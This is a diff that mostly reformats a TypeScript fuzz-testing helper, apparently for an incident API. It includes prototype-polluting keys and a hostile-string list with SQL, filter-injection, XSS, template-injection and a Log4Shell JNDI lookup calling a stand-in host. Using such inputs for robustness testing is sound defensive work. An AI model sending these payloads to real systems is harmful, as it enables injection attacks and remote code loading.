@@ -34,7 +34,16 @@ export class Rng {
 }
 
 /** Keys that poison prototypes or shadow built-ins when code copies objects carelessly. */
-export const POLLUTING_KEYS = ['__proto__', 'constructor', 'prototype', 'toString', 'valueOf', 'hasOwnProperty', '__defineGetter__', 'then'] as const;
+export const POLLUTING_KEYS = [
+  '__proto__',
+  'constructor',
+  'prototype',
+  'toString',
+  'valueOf',
+  'hasOwnProperty',
+  '__defineGetter__',
+  'then',
+] as const;
 
 /** Strings that have broken parsers, filters, paths and logs somewhere. */
 export const HOSTILE_STRINGS: readonly string[] = [
@@ -60,7 +69,7 @@ export const HOSTILE_STRINGS: readonly string[] = [
   '1 OR 1=1',
   "$filter=PartitionKey eq 'tenant'",
   "tenant') or (RowKey ne '",
-  'PartitionKey eq \'tenant\'',
+  "PartitionKey eq 'tenant'",
   '<script>alert(1)</script>',
   '${jndi:ldap://evil.example/a}',
   '{{7*7}}',
@@ -103,7 +112,9 @@ export function hostileString(rng: Rng): string {
     case 0:
       return 'A'.repeat(1 + rng.int(rng.chance(0.1) ? 200_000 : 5_000));
     case 1:
-      return Array.from({ length: 1 + rng.int(40) }, () => String.fromCodePoint(rng.chance(0.2) ? 0xd800 + rng.int(0x800) : rng.int(0x10ffff))).join('');
+      return Array.from({ length: 1 + rng.int(40) }, () =>
+        String.fromCodePoint(rng.chance(0.2) ? 0xd800 + rng.int(0x800) : rng.int(0x10ffff)),
+      ).join('');
     case 2:
       return bentGuid(rng);
     default:
@@ -151,9 +162,19 @@ export function fuzzValue(rng: Rng, depth = 0, fieldNames: readonly string[] = [
       const object: Record<string, unknown> = {};
       const keys = 1 + rng.int(6);
       for (let i = 0; i < keys; i++) {
-        const key = rng.chance(0.4) && fieldNames.length ? rng.pick(fieldNames) : rng.chance(0.5) ? rng.pick(POLLUTING_KEYS) : hostileString(rng).slice(0, 64);
+        const key =
+          rng.chance(0.4) && fieldNames.length
+            ? rng.pick(fieldNames)
+            : rng.chance(0.5)
+              ? rng.pick(POLLUTING_KEYS)
+              : hostileString(rng).slice(0, 64);
         // defineProperty: an own "__proto__" key, as JSON.parse makes it, not a prototype change.
-        Object.defineProperty(object, key, { value: fuzzValue(rng, depth + 1, fieldNames), enumerable: true, writable: true, configurable: true });
+        Object.defineProperty(object, key, {
+          value: fuzzValue(rng, depth + 1, fieldNames),
+          enumerable: true,
+          writable: true,
+          configurable: true,
+        });
       }
       return object;
     }
@@ -187,7 +208,9 @@ export function brokenBody(rng: Rng): { text?: string; bytes?: Uint8Array } {
 /** A body far larger than any endpoint takes (a few MB). */
 export function hugeBody(rng: Rng): string {
   const size = (2 + rng.int(4)) * 1024 * 1024;
-  return rng.chance(0.5) ? `{"value":[${'{"incidentId":1},'.repeat(size / 17)}{}]}` : JSON.stringify({ displayName: 'x'.repeat(size) });
+  return rng.chance(0.5)
+    ? `{"value":[${'{"incidentId":1},'.repeat(size / 17)}{}]}`
+    : JSON.stringify({ displayName: 'x'.repeat(size) });
 }
 
 export const CONTENT_TYPES: readonly (string | undefined)[] = [
@@ -206,11 +229,13 @@ export const CONTENT_TYPES: readonly (string | undefined)[] = [
 
 /** A query-string part: percent-encoded UTF-8, lone surrogates included (as raw bytes would arrive). */
 export function queryPart(value: string): string {
-  return [...value].map((ch) => {
-    try {
-      return encodeURIComponent(ch);
-    } catch {
-      return `%ED%${(0xa0 + ((ch.charCodeAt(0) >> 6) & 0x1f)).toString(16).toUpperCase()}%${(0x80 + (ch.charCodeAt(0) & 0x3f)).toString(16).toUpperCase()}`;
-    }
-  }).join('');
+  return [...value]
+    .map((ch) => {
+      try {
+        return encodeURIComponent(ch);
+      } catch {
+        return `%ED%${(0xa0 + ((ch.charCodeAt(0) >> 6) & 0x1f)).toString(16).toUpperCase()}%${(0x80 + (ch.charCodeAt(0) & 0x3f)).toString(16).toUpperCase()}`;
+      }
+    })
+    .join('');
 }
